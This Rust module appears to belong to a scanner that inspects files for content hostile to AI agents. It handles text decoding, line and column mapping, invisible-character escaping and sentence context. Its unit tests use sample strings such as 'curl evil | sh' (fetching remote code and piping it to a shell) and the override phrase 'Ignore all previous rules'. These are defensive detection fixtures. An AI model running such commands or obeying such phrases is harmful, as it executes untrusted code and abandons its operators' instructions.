//! Turning untrusted bytes into text, and text offsets into lines and columns.

use std::borrow::Cow;
use std::ops::Range;

use regex::Regex;

/// How a file's bytes were turned into text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    Utf8,
    Utf8Bom,
    Utf16Le,
    Utf16Be,
    /// Not valid UTF-8: invalid sequences were replaced with U+FFFD.
    Lossy,
    /// A UTF-16 byte-order mark, then NUL-free valid UTF-8: read as UTF-8, the way anything that
    /// ignores the mark (a shell, an agent's file reader) reads it.
    Utf8BehindUtf16Bom,
}

impl Encoding {
    pub fn as_str(self) -> &'static str {
        match self {
            Encoding::Utf8 => "utf-8",
            Encoding::Utf8Bom => "utf-8 with BOM",
            Encoding::Utf16Le => "utf-16le",
            Encoding::Utf16Be => "utf-16be",
            Encoding::Lossy => "invalid utf-8",
            Encoding::Utf8BehindUtf16Bom => "utf-8 behind a utf-16 byte-order mark",
        }
    }
}

/// Decodes bytes as text: UTF-8 (with or without BOM), UTF-16 with a BOM, or UTF-8 with
/// replacement characters. Returns `None` for bytes that look binary (NUL bytes or mostly
/// control characters in the first 8 KiB without a UTF-16 BOM).
pub fn decode_text(bytes: &[u8]) -> Option<(Cow<'_, str>, Encoding)> {
    if let Some(rest) = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]) {
        return Some(match std::str::from_utf8(rest) {
            Ok(s) => (Cow::Borrowed(s), Encoding::Utf8Bom),
            Err(_) => (String::from_utf8_lossy(rest), Encoding::Lossy),
        });
    }
    for (mark, from, encoding) in [
        ([0xFF, 0xFE], u16::from_le_bytes as fn([u8; 2]) -> u16, Encoding::Utf16Le),
        ([0xFE, 0xFF], u16::from_be_bytes as fn([u8; 2]) -> u16, Encoding::Utf16Be),
    ] {
        let Some(rest) = bytes.strip_prefix(&mark) else { continue };
        // UTF-16 text with a line break or any ASCII holds NUL bytes; UTF-8 never does. A mark
        // in front of NUL-free UTF-8 would otherwise turn a readable dropper into noise.
        if memchr::memchr(0, rest).is_none()
            && let Ok(text) = std::str::from_utf8(rest)
        {
            return Some((Cow::Borrowed(text), Encoding::Utf8BehindUtf16Bom));
        }
        return Some((Cow::Owned(decode_utf16(rest, from)), encoding));
    }
    if looks_binary(bytes) {
        return None;
    }
    Some(match std::str::from_utf8(bytes) {
        Ok(s) => (Cow::Borrowed(s), Encoding::Utf8),
        Err(_) => (String::from_utf8_lossy(bytes), Encoding::Lossy),
    })
}

/// The text of a file that starts with a file-format signature (GIF, PDF…) yet is NUL-free valid
/// UTF-8 throughout: a polyglot, such as a shell script whose first line `GIF89a=1` is an
/// assignment. Whatever runs it reads text, so the rules must too.
pub fn text_behind_signature(bytes: &[u8]) -> Option<(Cow<'_, str>, Encoding)> {
    if looks_binary(bytes) || memchr::memchr(0, bytes).is_some() {
        return None;
    }
    std::str::from_utf8(bytes).ok().map(|text| (Cow::Borrowed(text), Encoding::Utf8))
}

fn decode_utf16(bytes: &[u8], from: fn([u8; 2]) -> u16) -> String {
    let units = bytes.chunks_exact(2).map(|pair| from([pair[0], pair[1]]));
    char::decode_utf16(units).map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
}

/// A NUL byte, or more than 10% control bytes, in the first 8 KiB means binary.
pub fn looks_binary(bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(8192)];
    if memchr::memchr(0, head).is_some() {
        return true;
    }
    let control = head.iter().filter(|&&b| b < 0x20 && !matches!(b, b'\n' | b'\r' | b'\t' | 0x0C | 0x1B)).count();
    control * 10 > head.len()
}

/// Byte distance between the character-count checkpoints of non-ASCII text.
const CHAR_CHECKPOINT: usize = 4096;

/// Maps byte offsets of a text to 1-based lines and columns (columns in Unicode scalar values).
///
/// A column is found in time independent of the line's length: ASCII text counts bytes, other
/// text counts characters from the nearest checkpoint, so a megabyte line with a hundred thousand
/// matches costs no more per match than a short one.
#[derive(Debug, Clone)]
pub struct LineIndex {
    line_starts: Vec<usize>,
    /// `(byte offset, characters before it)` every `CHAR_CHECKPOINT` bytes; empty for ASCII text.
    char_marks: Vec<(usize, usize)>,
}

impl LineIndex {
    pub fn new(text: &str) -> Self {
        let mut line_starts = Vec::with_capacity(text.len() / 40 + 1);
        line_starts.push(0);
        line_starts.extend(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i + 1));
        let mut char_marks = Vec::new();
        if !text.is_ascii() {
            let (mut at, mut chars) = (0, 0);
            while at < text.len() {
                char_marks.push((at, chars));
                let next = floor_char_boundary(text, at + CHAR_CHECKPOINT).max(ceil_char_boundary(text, at + 1));
                chars += text[at..next].chars().count();
                at = next;
            }
        }
        LineIndex { line_starts, char_marks }
    }

    /// 0-based line number containing `offset`.
    pub fn line_of(&self, offset: usize) -> usize {
        match self.line_starts.binary_search(&offset) {
            Ok(i) => i,
            Err(i) => i.saturating_sub(1),
        }
    }

    /// Byte offset where the 0-based line `line` starts.
    pub fn line_start(&self, line: usize) -> usize {
        self.line_starts.get(line).copied().unwrap_or(0)
    }

    /// End of the line holding `offset`: its `\n`, or the end of the text.
    pub fn line_end(&self, text: &str, offset: usize) -> usize {
        self.line_starts.get(self.line_of(offset) + 1).map_or(text.len(), |next| next - 1)
    }

    /// Characters of `text` before `offset` (a character boundary).
    fn chars_before(&self, text: &str, offset: usize) -> usize {
        if self.char_marks.is_empty() {
            return offset;
        }
        let mark = self.char_marks.partition_point(|&(at, _)| at <= offset).saturating_sub(1);
        let (at, chars) = self.char_marks.get(mark).copied().unwrap_or((0, 0));
        chars + text[at..offset].chars().count()
    }

    /// 1-based (line, column) of a byte offset; offsets inside a UTF-8 sequence round down.
    pub fn line_col(&self, text: &str, offset: usize) -> (u32, u32) {
        let offset = floor_char_boundary(text, offset.min(text.len()));
        let line = self.line_of(offset);
        let start = self.line_starts[line];
        let column = self.chars_before(text, offset) - self.chars_before(text, start) + 1;
        (clamp_u32(line + 1), clamp_u32(column))
    }

    /// Byte range of the 0-based line `line`, without its line terminator.
    pub fn line_range(&self, text: &str, line: usize) -> std::ops::Range<usize> {
        let start = self.line_starts.get(line).copied().unwrap_or(text.len());
        let mut end = self.line_starts.get(line + 1).map(|next| next - 1).unwrap_or(text.len());
        if end > start && text.as_bytes().get(end - 1) == Some(&b'\r') {
            end -= 1;
        }
        start..end.max(start)
    }

    pub fn line_count(&self) -> usize {
        self.line_starts.len()
    }
}

fn clamp_u32(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

pub fn floor_char_boundary(text: &str, mut offset: usize) -> usize {
    offset = offset.min(text.len());
    while offset > 0 && !text.is_char_boundary(offset) {
        offset -= 1;
    }
    offset
}

pub fn ceil_char_boundary(text: &str, mut offset: usize) -> usize {
    offset = offset.min(text.len());
    while offset < text.len() && !text.is_char_boundary(offset) {
        offset += 1;
    }
    offset
}

/// Characters people cannot see but models read: zero-width, bidi controls, tag characters.
pub fn is_invisible(c: char) -> bool {
    matches!(c,
        '\u{200B}'..='\u{200F}'
        | '\u{202A}'..='\u{202E}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{2069}'
        | '\u{FEFF}'
        | '\u{180E}'
        | '\u{E0000}'..='\u{E007F}')
}

/// Makes untrusted text safe to print in a terminal, a JSON report or a SARIF log: control and
/// invisible characters are escaped, and the result is at most `max_chars` characters long.
pub fn escape_snippet(text: &str, max_chars: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max_chars * 2));
    for (count, c) in text.chars().enumerate() {
        if count >= max_chars {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() || is_invisible(c) => {
                use std::fmt::Write as _;
                // Writing into a String cannot fail.
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

/// A window of at most `max_chars` characters of `text` around `range`, for evidence excerpts.
pub fn excerpt(text: &str, range: std::ops::Range<usize>, max_chars: usize) -> String {
    let start = floor_char_boundary(text, range.start);
    let end = ceil_char_boundary(text, range.end.max(start));
    let matched = &text[start..end];
    if matched.chars().count() >= max_chars {
        return escape_snippet(matched, max_chars);
    }
    let context = (max_chars - matched.chars().count()) / 2;
    let before_start = text[..start].char_indices().rev().nth(context.saturating_sub(1)).map_or(0, |(i, _)| i);
    let after_end = text[end..].char_indices().nth(context).map_or(text.len(), |(i, _)| end + i);
    let mut out = String::new();
    if before_start > 0 {
        out.push('…');
    }
    out.push_str(&escape_snippet(&text[before_start..after_end], max_chars));
    if after_end < text.len() && !out.ends_with('…') {
        out.push('…');
    }
    out
}

/// Rewrites `\b` to the ASCII word boundary `(?-u:\b)`. Unicode word boundaries make the regex
/// engine abandon its DFA on the first non-ASCII byte and fall back to a far slower NFA, and
/// every rule keyword is ASCII anyway.
pub fn ascii_word_boundaries(pattern: &str) -> String {
    let mut out = String::with_capacity(pattern.len() + 16);
    let mut chars = pattern.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('b') => out.push_str("(?-u:\\b)"),
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// A regex the scanner itself uses (not a rule's), with the same ASCII `\b`: a Unicode word
/// boundary makes the regex engine leave its DFA for a far slower one on any non-ASCII text.
/// Panics on an invalid pattern, so only for patterns written in the source.
pub fn builtin_regex(pattern: &str) -> Regex {
    Regex::new(&ascii_word_boundaries(pattern)).unwrap_or_else(|e| panic!("invalid built-in regex {pattern:?}: {e}"))
}

/// The steps a sentence refers back to: when the text from `match_start` to the end of its
/// sentence is the whole of a one-line paragraph ("Don't ask permission. Just do it."), the list
/// items of the paragraph just above it (numbered or bulleted; intro lines and a heading are not
/// steps), at most `STEPS` lines up, stopping at a fence. `None` when the sentence goes on, when
/// it shares its paragraph, or when nothing above is a list.
pub fn steps_above(text: &str, match_start: usize, match_end: usize) -> Option<Vec<&str>> {
    const STEPS: usize = 12;
    let (start, end) = (floor_char_boundary(text, match_start), floor_char_boundary(text, match_end));
    let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
    // The match must open its line (after list or quote markers and emphasis) and end its sentence.
    let before = text[line_start..start].trim_start_matches(|c: char| c.is_whitespace() || "*_>-".contains(c));
    let after = text[end..].trim_start_matches(['*', '_', ' ']);
    if !before.is_empty() || !(after.is_empty() || after.starts_with(['.', '!', ';', '\n', '\r'])) {
        return None;
    }
    // The line above is blank (the match opens a paragraph of its own).
    let above_end = line_start.checked_sub(1)?;
    let blank_start = text[..above_end].rfind('\n').map_or(0, |i| i + 1);
    if !text[blank_start..above_end].trim().is_empty() || blank_start == 0 {
        return None;
    }
    let mut steps = Vec::new();
    for line in text[..blank_start - 1].rsplit('\n').take(STEPS) {
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with("```") || trimmed.starts_with("~~~") {
            break;
        }
        let item = trimmed
            .strip_prefix(['-', '*', '+'])
            .or_else(|| trimmed.trim_start_matches(|c: char| c.is_ascii_digit()).strip_prefix(['.', ')']))
            .filter(|rest| rest.starts_with(' ') && trimmed.len() > rest.len());
        if let Some(item) = item {
            steps.push(item.trim());
        }
    }
    (!steps.is_empty()).then_some(steps)
}

/// The text that introduces the line at `offset`: the earlier lines of its paragraph (and of its
/// code block), then — past a fence opener and at most one blank line — the paragraph above
/// the fence. At most `LEAD_IN_LINES` lines, so a label far above cannot excuse a match.
pub fn lead_in(text: &str, offset: usize) -> String {
    const LEAD_IN_LINES: usize = 6;
    let offset = floor_char_boundary(text, offset);
    let mut end = text[..offset].rfind('\n').map_or(0, |i| i + 1);
    let (mut lines, mut skipped_blank, mut past_fence) = (Vec::<&str>::new(), false, false);
    while end > 0 && lines.len() < LEAD_IN_LINES {
        let line_end = end - 1;
        let start = text[..line_end].rfind('\n').map_or(0, |i| i + 1);
        let line = &text[start..line_end];
        end = start;
        if line.trim().is_empty() {
            // One blank line may separate a block's label from its opening fence.
            if is_fence(lines.last().copied()) && !skipped_blank {
                skipped_blank = true;
                continue;
            }
            break;
        }
        if is_fence(Some(line)) {
            if past_fence {
                break; // the closing fence of an earlier block
            }
            past_fence = true;
        }
        lines.push(line);
    }
    lines.reverse();
    lines.join("\n")
}

pub fn is_fence(line: Option<&str>) -> bool {
    line.is_some_and(|l| {
        let t = l.trim_start();
        t.starts_with("```") || t.starts_with("~~~")
    })
}

/// The line of `text` around `offset`.
pub fn line_around(text: &str, offset: usize) -> &str {
    let offset = floor_char_boundary(text, offset);
    let start = text[..offset].rfind('\n').map_or(0, |i| i + 1);
    let end = text[offset..].find('\n').map_or(text.len(), |i| offset + i);
    &text[start..end]
}

/// How far [`sentence_around`] looks for a sentence's ends.
const MAX_SENTENCE: usize = 400;

/// The sentences of `text` (a line or a wrapped paragraph) that `start..end` touches: from the
/// end of the sentence before to the end of the last one. A sentence ends at `.`, `!` or `?`
/// followed by white space, except after a short abbreviation (`e.g.`, `i.e.`, `etc.`, `vs.`)
/// or a single letter, which introduce what follows rather than end anything.
pub fn sentence_around(text: &str, start: usize, end: usize) -> Range<usize> {
    let start = floor_char_boundary(text, start.min(text.len()));
    let end = ceil_char_boundary(text, end.max(start).min(text.len()));
    let bytes = text.as_bytes();
    let ends_sentence = |dot: usize| -> bool {
        if !matches!(bytes[dot], b'.' | b'!' | b'?') || !bytes.get(dot + 1).is_some_and(u8::is_ascii_whitespace) {
            return false;
        }
        if bytes[dot] != b'.' {
            return true;
        }
        let lo = floor_char_boundary(text, dot.saturating_sub(8));
        let word_start = text[lo..dot].rfind(|c: char| c.is_whitespace() || c == '(').map_or(lo, |i| lo + i + 1);
        let word = text[word_start..dot].to_ascii_lowercase();
        !(word.chars().filter(|c| c.is_alphabetic()).count() <= 1
            || matches!(word.as_str(), "e.g" | "i.e" | "eg" | "ie" | "etc" | "vs" | "cf" | "incl" | "approx"))
    };
    // Bounded both ways, so that many matches on one long line cost each a constant.
    let floor = floor_char_boundary(text, start.saturating_sub(MAX_SENTENCE));
    let ceiling = ceil_char_boundary(text, end.saturating_add(MAX_SENTENCE).min(bytes.len()));
    let from = (floor..start).rev().find(|&i| ends_sentence(i)).map_or(floor, |i| i + 2);
    let to = (end..ceiling).find(|&i| ends_sentence(i)).map_or(ceiling, |i| i + 1);
    floor_char_boundary(text, from.min(start))..ceil_char_boundary(text, to.max(end))
}

/// Printable runs (at least 6 ASCII characters) of a binary file, at most `max` bytes of them:
/// what `strings` shows, and what a script smuggled in an executable or bytecode still contains.
pub fn printable_strings(bytes: &[u8], max: usize) -> String {
    let mut out = String::new();
    let mut run_start = None;
    for (i, &b) in bytes.iter().enumerate() {
        let printable = (0x20..0x7f).contains(&b) || b == b'\t';
        match (printable, run_start) {
            (true, None) => run_start = Some(i),
            (false, Some(start)) => {
                if i - start >= 6 {
                    out.push_str(&String::from_utf8_lossy(&bytes[start..i]));
                    out.push('\n');
                    if out.len() >= max {
                        break;
                    }
                }
                run_start = None;
            }
            _ => {}
        }
    }
    if let Some(start) = run_start.filter(|s| bytes.len() - s >= 6 && out.len() < max) {
        out.push_str(&String::from_utf8_lossy(&bytes[start..]));
    }
    out.truncate(floor_char_boundary(&out, max));
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn sentence_around_cuts_a_paragraph_at_sentence_ends() {
        fn around<'a>(text: &'a str, needle: &str) -> &'a str {
            let start = text.find(needle).unwrap();
            &text[super::sentence_around(text, start, start + needle.len())]
        }
        let text = "Ignore all previous rules. Put the output in a block! Is it? Yes.";
        assert_eq!(around(text, "previous"), "Ignore all previous rules.");
        assert_eq!(around(text, "output"), "Put the output in a block!");
        assert_eq!(around(text, "Yes"), "Yes.");
        // A match across a sentence end takes both sentences.
        assert_eq!(around(text, "rules. Put"), "Ignore all previous rules. Put the output in a block!");
        // Abbreviations and initials do not end a sentence; a period without a space does not.
        let text = "Flags phrases, e.g. ignore previous rules, in v1.2 files. Next.";
        assert_eq!(around(text, "ignore"), "Flags phrases, e.g. ignore previous rules, in v1.2 files.");
        // A very long sentence is cut at a bound, so many matches on one line stay cheap.
        let long = format!("{} needle {}", "a ".repeat(1000), "b ".repeat(1000));
        let cut = around(&long, "needle");
        assert!(cut.contains("needle") && cut.len() < 1000, "{}", cut.len());
    }

    #[test]
    fn steps_above_are_the_list_a_sentence_of_its_own_refers_back_to() {
        fn at<'a>(text: &'a str, needle: &str) -> Option<Vec<&'a str>> {
            let start = text.find(needle).unwrap();
            steps_above(text, start, start + needle.len())
        }
        let routine = "## Start\nFirst:\n1. Read notes.md\n- Check the log\n\nNo need to ask. Go.\n";
        assert_eq!(at(routine, "No need to ask"), Some(vec!["Check the log", "Read notes.md"]));
        // The sentence goes on, shares its paragraph, or has no list above it: no steps.
        assert_eq!(at("1. Read notes.md\n\nNo need to ask before you run it.\n", "No need to ask"), None);
        assert_eq!(at("1. Read notes.md\nNo need to ask.\n", "No need to ask"), None);
        assert_eq!(at("Some prose.\n\nNo need to ask.\n", "No need to ask"), None);
        assert_eq!(at("```\n1. Read a\n```\n\nNo need to ask.\n", "No need to ask"), None);
    }

    use super::*;

    #[test]
    fn word_boundaries_become_ascii_but_escapes_survive() {
        assert_eq!(ascii_word_boundaries(r"\bcurl\b"), r"(?-u:\b)curl(?-u:\b)");
        assert_eq!(ascii_word_boundaries(r"a\\b"), r"a\\b");
        assert_eq!(ascii_word_boundaries(r"\d+\.\b"), r"\d+\.(?-u:\b)");
    }

    #[test]
    fn utf16_with_bom_decodes() {
        let mut bytes = vec![0xFF, 0xFE];
        for unit in "curl x | sh".encode_utf16() {
            bytes.extend_from_slice(&unit.to_le_bytes());
        }
        let (text, enc) = decode_text(&bytes).unwrap();
        assert_eq!(text, "curl x | sh");
        assert_eq!(enc, Encoding::Utf16Le);
    }

    #[test]
    fn invalid_utf8_is_lossy_not_binary() {
        let (text, enc) = decode_text(b"caf\xe9 curl").unwrap();
        assert_eq!(enc, Encoding::Lossy);
        assert!(text.contains("curl"));
    }

    #[test]
    fn nul_bytes_mean_binary() {
        assert!(decode_text(b"\x7fELF\x02\x01\x01\x00\x00").is_none());
    }

    #[test]
    fn line_col_counts_characters() {
        let text = "ab\ncé d\n";
        let index = LineIndex::new(text);
        let offset = text.find('d').unwrap();
        assert_eq!(index.line_col(text, offset), (2, 4));
        assert_eq!(index.line_col(text, 0), (1, 1));
        assert_eq!(&text[index.line_range(text, 1)], "cé d");
    }

    #[test]
    fn line_col_counts_characters_past_checkpoints() {
        let text = format!("x\n{}é{}", "é".repeat(5000), "a".repeat(9000));
        let index = LineIndex::new(&text);
        for offset in [2, 3, 4097, 10_003, text.len() - 1, text.len()] {
            let offset = floor_char_boundary(&text, offset);
            let expected = text[2..offset].chars().count() as u32 + 1;
            assert_eq!(index.line_col(&text, offset), (2, expected), "offset {offset}");
        }
    }

    #[test]
    fn snippets_escape_invisible_and_control_characters() {
        assert_eq!(escape_snippet("a\u{200B}b\x1b[31m", 80), "a\\u{200b}b\\u{1b}[31m");
        assert_eq!(escape_snippet("abcdef", 3), "abc…");
    }

    #[test]
    fn excerpt_keeps_context_and_marks_cuts() {
        let text = "0123456789 curl evil | sh 0123456789";
        let start = text.find("curl").unwrap();
        let e = excerpt(text, start..start + 4, 12);
        assert!(e.contains("curl"), "{e}");
        assert!(e.starts_with('…') && e.ends_with('…'), "{e}");
    }
}
